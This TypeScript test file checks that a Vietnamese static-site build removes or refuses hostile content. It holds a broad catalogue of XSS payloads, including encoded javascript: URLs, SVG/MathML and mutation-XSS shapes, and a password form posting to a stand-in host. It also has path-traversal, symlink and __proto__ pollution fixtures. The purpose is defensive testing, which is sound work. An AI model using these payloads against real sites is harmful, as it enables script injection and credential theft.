/**
 * Content that cannot attack (issue 12), on built sites. Two fixture builds
 * hold every attack class at once:
 *
 * - "published": attacks the build cleans and publishes (raw HTML in markdown
 *   bodies and bloc descriptions: scripts, handlers, javascript: URLs in all
 *   their encodings, SVG animation, MathML, style overlays, remote media,
 *   mutation-XSS shapes, control characters; files that are not read). The
 *   build passes with a warning naming file and line for each; dist/ has none
 *   of it; the pages, loaded in Chromium WITHOUT the CSP header, run no script
 *   of the attacker's and send no request beyond localhost, even when every
 *   link is clicked.
 * - "refused": attacks the build refuses (MDX ESM running a committed .mjs,
 *   components off the list, escaped javascript: in JSX, spreads; files from
 *   outside content/ by absolute path, ../ or symlink; prototype keys; system
 *   paths as aliases, drafts too; control characters in text fields). validate
 *   and build both stop, naming each file; the build's output ends with our
 *   list and its count, and the .mjs never ran.
 */
import fs from 'node:fs';
import path from 'node:path';
import type { Nodes } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launch } from './helpers/browser.ts';
import { serve, type Served } from './helpers/serve.ts';
import { build, type Fixture, makeFixture, REPO, read, removeFixture, validate, write } from './helpers/site.ts';

const MINIMAL = path.join(REPO, 'tests', 'fixtures', 'minimal');
const FRONT = (title: string, extra = '') =>
  `---\ntitle: ${title}\ndate: 2021-05-01\nkind: tin-tuc\nsummary: Bài thử tấn công.\n${extra}---\n`;
/** A host that must never be contacted (TEST-NET-3). */
const EVIL = 'http://203.0.113.7';
const JPEG = fs.readFileSync(path.join(REPO, 'content', 'articles', '2021', 'khoi-5-ky-giao-uoc.jpg'));

/** Raw HTML attacks; every payload sets window.__pwned or calls alert, or loads from EVIL. */
const MD_ATTACKS = [
  '<script>window.__pwned = "script"</script>',
  '<img/src="x"/onerror="window.__pwned=\'img\'">',
  '<svg width="200" height="40"><a><animate attributeName="href" values="javascript:window.__pwned=\'animate\'"/><text x="0" y="20">Bấm vào đây (animate)</text></a></svg>',
  '<svg width="200" height="40"><a><set attributeName="href" to="javascript:window.__pwned=\'set\'"/><text x="0" y="20">Bấm vào đây (set)</text></a></svg>',
  `<svg><image href="${EVIL}/svg-image.png" width="10" height="10"/></svg>`,
  '<math><maction actiontype="statusline" xlink:href="javascript:window.__pwned=\'math\'">Bấm (math)</maction></math>',
  '<a href="java&#x09;script:window.__pwned=\'tab\'">Bấm (tab)</a>',
  '<a href="&#106;avascript:window.__pwned=\'entity\'">Bấm (entity)</a>',
  '<a href="javascript&colon;window.__pwned=\'colon\'">Bấm (colon)</a>',
  '<a href=" JaVaScRiPt:window.__pwned=\'case\'">Bấm (case)</a>',
  '<a href="data:text/html,<script>parent.__pwned=1</script>">Bấm (data)</a>',
  "[Bấm (markdown)](javascript:window.__pwned='markdown')",
  '<div id="lop-phu" style="position:fixed;inset:0;z-index:9999;background:#c00">Trang giả mạo</div>',
  `<video poster="${EVIL}/poster.png" autoplay><source src="${EVIL}/v.mp4"></video>`,
  `<audio src="${EVIL}/a.mp3" autoplay></audio>`,
  `<table background="${EVIL}/bg.png"><tr><td background="${EVIL}/td.png">ô</td></tr></table>`,
  `<picture><source srcset="${EVIL}/s.webp"><img/src="${EVIL}/p.png" alt="p"></picture>`,
  `<iframe src="${EVIL}/frame"></iframe>`,
  `<object data="${EVIL}/x.swf"></object><embed src="${EVIL}/x.swf">`,
  `<link rel="stylesheet" href="${EVIL}/x.css"><meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  `<base href="${EVIL}/">`,
  `<form action="${EVIL}/steal"><input name="mat-khau" type="password"><button formaction="javascript:window.__pwned='form'">Gửi</button></form>`,
  '<details open ontoggle="window.__pwned=\'details\'"><summary>Mở</summary>nội dung</details>',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=\'mxss\'>"></noscript>',
  "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned='mglyph'>",
  '<style>body{display:none}</style>',
  "<template><img src=x onerror=window.__pwned='template'></template>",
  '<p>Ký tự điều khiển:\u000bhết.</p>',
].join('\n\n');

const BLOC_DESCRIPTION = [
  'Mô tả khối.',
  '<img/src="x"/onerror="window.__pwned=\'bloc-img\'">',
  '<a href="java&#115;cript:window.__pwned=\'bloc\'">Bấm (khối)</a>',
  '<div style="position:fixed;inset:0;background:#c00">giả mạo</div>',
  `<svg><set attributeName="href" to="javascript:window.__pwned='bloc-set'"/></svg><img alt="x" src="${EVIL}/bloc.png">`,
].join('\n\n');

/** Markup in a page that could run, load or cover anything: scripts, handlers, bad URLs, styles, foreign elements. */
function activeMarkup(html: string): string[] {
  const out: string[] = [];
  const walk = (node: Nodes) => {
    if (node.type === 'element') {
      const tag = node.tagName;
      if (
        [
          'script',
          'svg',
          'math',
          'iframe',
          'object',
          'embed',
          'video',
          'audio',
          'base',
          'meta',
          'link',
          'template',
          'noscript',
        ].includes(tag)
      ) {
        // The page's own head and scripts are the site's: only what sits in <main> counts.
        if (inMain) out.push(`<${tag}>`);
      }
      for (const [key, value] of Object.entries(node.properties)) {
        const v = Array.isArray(value) ? value.join(' ') : String(value);
        if (/^on/i.test(key)) out.push(`${tag} ${key}`);
        if (inMain && key === 'style') out.push(`${tag} style`);
        if (/^(href|src|srcSet|poster|background|action|formAction|data|xLinkHref)$/.test(key)) {
          if (/^\s*[a-z][\w+.-]*:/i.test(v) && !/^(https?|mailto|tel):/i.test(v.trim())) out.push(`${tag} ${key}=${v}`);
          if (key !== 'href' && /203\.0\.113\.7/.test(v)) out.push(`${tag} ${key}=${v}`);
        }
        if (inMain && key === 'name' && /mat-khau/.test(v)) out.push(`${tag} name`);
      }
    }
    const wasInMain = inMain;
    if (node.type === 'element' && node.tagName === 'main') inMain = true;
    if ('children' in node) for (const child of node.children) walk(child as Nodes);
    inMain = wasInMain;
  };
  let inMain = false;
  walk(fromHtml(html));
  return out;
}

let published: Fixture;
let refused: Fixture;
let publishedBuild: { status: number; output: string };
let refusedValidate: { status: number; output: string };
let refusedBuild: { status: number; output: string };

beforeAll(() => {
  published = makeFixture('attacks-published', MINIMAL);
  write(
    published.root,
    'content/articles/2021/tan-cong.md',
    `${FRONT('Tấn công bằng HTML')}\nĐoạn mở đầu.\n\n${MD_ATTACKS}\n`,
  );
  write(
    published.root,
    'content/blocs/khoi-mot.yaml',
    `name: Khối thi đua số Một\nmembers: [so-noi-vu, bao-tinh]\nheads: { 2020: so-noi-vu, 2021: bao-tinh }\ndeputies: { 2021: so-noi-vu }\ndescription: |\n${BLOC_DESCRIPTION.split(
      '\n',
    )
      .map((l) => `  ${l}`)
      .join('\n')}\n`,
  );
  // MDX the right way: the guide's component without import, and the one legacy import still accepted.
  write(
    published.root,
    'content/articles/2021/mdx-dung.mdx',
    `${FRONT('Bài MDX đúng cách')}\nĐoạn.\n\n<Callout title="Trích quyết định">Nội dung ghi chú.</Callout>\n`,
  );
  write(
    published.root,
    'content/articles/2021/mdx-cu.mdx',
    `${FRONT('Bài MDX cũ')}import Callout from '@components/Callout.astro'\n\nĐoạn.\n\n<Callout>Ghi chú cũ.</Callout>\n`,
  );
  // Files that are not read: named, never published.
  write(published.root, 'content/articles/2021/.bai-an.md', `${FRONT('Bài ẩn')}\nBÍ-MẬT-AN\n`);
  write(published.root, 'content/articles/2021/tan-cong.md~', `${FRONT('Sao lưu')}\nBÍ-MẬT-SAO-LUU\n`);
  publishedBuild = build(published);

  refused = makeFixture('attacks-refused', MINIMAL);
  const marker = path.join(refused.root, 'DA-CHAY.txt');
  write(
    refused.root,
    'content/articles/2021/payload.mjs',
    `import fs from 'node:fs';\nfs.writeFileSync(${JSON.stringify(marker)}, 'ran');\nexport default 1;\n`,
  );
  write(
    refused.root,
    'content/articles/2021/mdx-esm.mdx',
    `${FRONT('ESM')}import Callout from '@components/Callout.astro'\n  import x from './payload.mjs'\n\nĐoạn.\n`,
  );
  write(
    refused.root,
    'content/articles/2021/mdx-jsx.mdx',
    `${FRONT('JSX')}\n<a href="java\\u0073cript:alert(1)">Bấm</a>\n\n<Gallery />\n\n<Callout {...props}>x</Callout>\n\n<Callout title={<b>x</b>}>x</Callout>\n\n<div style="position:fixed">x</div>\n`,
  );
  write(refused.root, 'secret.jpg', JPEG);
  write(refused.root, 'outside.md', `${FRONT('Ngoài kho')}\nBÍ-MẬT-NGOAI\n`);
  write(
    refused.root,
    'content/articles/2021/ngoai-kho.md',
    `${FRONT('Ảnh ngoài kho', 'cover: { src: /etc/hostname, alt: Ảnh }\n')}\n![Ảnh](../../../secret.jpg)\n`,
  );
  fs.symlinkSync(path.join(refused.root, 'outside.md'), path.join(refused.root, 'content/articles/2021/lien-ket.md'));
  fs.symlinkSync(
    path.join(refused.root, 'content/honorees/don-vi.yaml'),
    path.join(refused.root, 'content/honorees/lien-ket.yaml'),
  );
  write(
    refused.root,
    'content/articles/2021/proto.md',
    `${FRONT('Khoá nguyên mẫu', '__proto__: { polluted: 1 }\nconstructor: x\n')}\nNội dung.\n`,
  );
  write(
    refused.root,
    'content/articles/2021/ban-nhap.md',
    `${FRONT('Bản nháp', 'draft: true\naliases: [/rss.xml/, /pagefind/pagefind.js, /index.html]\n')}\nNội dung.\n`,
  );
  write(
    refused.root,
    'content/blocs/khoi-mot.yaml',
    'name: Khối thi đua số Một\nmembers: [so-noi-vu, bao-tinh]\nheads: { constructor: so-noi-vu, 2021: bao-tinh }\n',
  );
  write(refused.root, 'content/honorees/ky-tu.yaml', '- id: ky-tu-la\n  name: "Sở\\vTư pháp"\n  type: tap-the\n');
  refusedValidate = validate(refused);
  refusedBuild = build(refused);
}, 600_000);

afterAll(() => {
  if (!process.env.KEEP_ATTACKS) for (const f of [published, refused]) if (f) removeFixture(f);
});

describe('attacks the build cleans: gone from dist/, each named in a warning', () => {
  it('builds, with a warning naming file and line for what it removes', () => {
    expect(publishedBuild.status, publishedBuild.output).toBe(0);
    const out = publishedBuild.output;
    expect(out).toMatch(
      /\[cảnh báo\] content\/articles\/2021\/tan-cong\.md:\d+: thẻ <script> không được phép — khi đăng sẽ bị xoá/,
    );
    expect(out).toMatch(/tan-cong\.md:\d+: thuộc tính style="position:fixed/);
    expect(out).toMatch(/tan-cong\.md:\d+: thẻ <svg> không được phép/);
    expect(out).toMatch(/tan-cong\.md:\d+: có ký tự điều khiển U\+000B/);
    expect(out).toMatch(/content\/articles\/2021\/\.bai-an\.md: tệp ẩn/);
    expect(out).toMatch(/content\/blocs\/khoi-mot\.yaml › description: thuộc tính style="position:fixed/);
    expect(out).toMatch(/content\/articles\/2021\/tan-cong\.md~: là tệp sao lưu/);
  });

  it('publishes none of it', () => {
    for (const page of ['tin-tuc/tan-cong/index.html', 'khoi-thi-dua/khoi-mot/index.html']) {
      const html = read(published, page);
      // Payloads may remain as visible text (markdown prints what it does not read as HTML); never as markup.
      expect(activeMarkup(html), page).toEqual([]);
      // Control characters never reach a page.
      expect(html).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F]/);
    }
    const all = fs.readdirSync(published.dist, { recursive: true }) as string[];
    expect(all.some((f) => /bai-an|\.md~/.test(f))).toBe(false);
    const texts = all.filter((f) => /\.(html|xml|json|csv)$/.test(f)).map((f) => read(published, f));
    expect(texts.some((t) => t.includes('BÍ-MẬT'))).toBe(false);
  });

  it('keeps what the build makes and what editors need: heading ids, Callout, links', () => {
    const html = read(published, 'tin-tuc/tan-cong/index.html');
    expect(html).toContain('id="lop-phu"');
    expect(read(published, 'tin-tuc/mdx-dung/index.html')).toMatch(
      /<aside class="callout" aria-label="Trích quyết định">/,
    );
    expect(read(published, 'tin-tuc/mdx-cu/index.html')).toMatch(
      /<aside class="callout"[^>]*>\s*<p class="callout-title">Lưu ý<\/p>/,
    );
  });

  describe('in Chromium, without the CSP header', () => {
    let browser: Browser;
    let server: Served;
    beforeAll(async () => {
      server = await serve(published.dist);
      browser = await launch();
    }, 60_000);
    afterAll(async () => {
      await browser?.close();
      await server?.close();
    });

    it.each(['tin-tuc/tan-cong/', 'khoi-thi-dua/khoi-mot/'])(
      '%s runs no script of the attacker and sends nothing beyond localhost, every link clicked',
      async (page) => {
        const context = await browser.newContext();
        const tab = await context.newPage();
        const outside: string[] = [];
        const dialogs: string[] = [];
        // A reader who clicks an http(s) link leaves the site on purpose: that navigation is stopped here and not
        // counted. Anything else leaving localhost (images, media, scripts, styles, fetches, frames) is a failure.
        await tab.route(
          (url) => !['127.0.0.1', 'localhost'].includes(url.hostname),
          (route) => {
            const r = route.request();
            if (!(r.isNavigationRequest() && r.frame() === tab.mainFrame()))
              outside.push(`${r.resourceType()} ${r.url()}`);
            void route.abort();
          },
        );
        tab.on('dialog', (d) => {
          dialogs.push(d.message());
          void d.dismiss();
        });
        const response = await tab.goto(`${server.url}${page}`, { waitUntil: 'load' });
        expect(response?.status()).toBe(200);
        expect(response?.headers()['content-security-policy']).toBeUndefined();
        // Click every link and SVG text in the content, as a curious reader would.
        const targets = await tab.locator('main a, main svg text, main summary, main maction').all();
        for (const t of targets) {
          if (await t.isVisible().catch(() => false)) {
            await t.click({ timeout: 2000, noWaitAfter: true, modifiers: [] }).catch(() => undefined);
            if (!tab.url().startsWith(server.url)) await tab.goto(`${server.url}${page}`);
          }
        }
        await tab.waitForTimeout(300);
        const pwned = await tab.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned);
        expect(pwned).toBeUndefined();
        expect(dialogs).toEqual([]);
        expect(outside).toEqual([]);
        // No element covers the page.
        const fixed = await tab.evaluate(
          () => [...document.querySelectorAll('main *')].filter((e) => getComputedStyle(e).position === 'fixed').length,
        );
        expect(fixed).toBe(0);
        await context.close();
      },
      60_000,
    );
  });
});

describe('attacks the build refuses: validate and build stop, naming each file', () => {
  const expected = [
    'content/articles/2021/mdx-esm.mdx:8: không được import "./payload.mjs"',
    'content/articles/2021/mdx-jsx.mdx:8: đường dẫn href="java\\u0073cript:alert(1)" của <a> không được phép',
    'content/articles/2021/mdx-jsx.mdx:10: thẻ <Gallery> không được dùng trong bài MDX',
    'content/articles/2021/mdx-jsx.mdx:12: thuộc tính {…} (trải đối tượng) không được dùng trong <Callout>',
    'content/articles/2021/mdx-jsx.mdx:14: thuộc tính title={…} của <Callout> chỉ được là chữ',
    'content/articles/2021/mdx-jsx.mdx:16: thuộc tính style không được dùng trong <div>',
    'content/articles/2021/ngoai-kho.md › cover.src: ảnh "/etc/hostname" nằm ngoài thư mục content/',
    'content/articles/2021/ngoai-kho.md:9: ảnh "../../../secret.jpg" nằm ngoài thư mục content/',
    'content/articles/2021/lien-ket.md: là liên kết tượng trưng (symlink)',
    'content/honorees/lien-ket.yaml: là liên kết tượng trưng (symlink)',
    'content/articles/2021/proto.md › __proto__: trường này không có trong mô hình nội dung',
    'content/articles/2021/proto.md › constructor: trường này không có trong mô hình nội dung',
    'content/blocs/khoi-mot.yaml › heads.constructor: trường này không có trong mô hình nội dung',
    'content/articles/2021/ban-nhap.md › aliases[0]: "/rss.xml/"',
    'content/articles/2021/ban-nhap.md › aliases[1]: "/pagefind/pagefind.js" nằm trong /pagefind/',
    'content/articles/2021/ban-nhap.md › aliases[2]: "/index.html"',
    'content/honorees/ky-tu.yaml › [0].name: có ký tự điều khiển U+000B',
  ];

  it('validate refuses, naming each', () => {
    expect(refusedValidate.status, refusedValidate.output).not.toBe(0);
    for (const e of expected) expect(refusedValidate.output).toContain(e);
  });

  it('the build refuses the same, and its output ends with our list and the count', () => {
    expect(refusedBuild.status, refusedBuild.output).not.toBe(0);
    for (const e of expected) expect(refusedBuild.output).toContain(e);
    const lines = refusedBuild.output.trim().split('\n');
    expect(lines.at(-1)).toMatch(/^Nội dung có \d+ lỗi( và \d+ cảnh báo)?: sửa các lỗi trên rồi chạy lại\.$/);
    expect(refusedBuild.output).not.toMatch(/Stack trace|at astro:config:setup|safeParse is not a function/);
  });

  it('the committed .mjs never ran, and nothing was published', () => {
    expect(fs.existsSync(path.join(refused.root, 'DA-CHAY.txt'))).toBe(false);
    expect(fs.existsSync(path.join(refused.dist, 'index.html'))).toBe(false);
  });
});
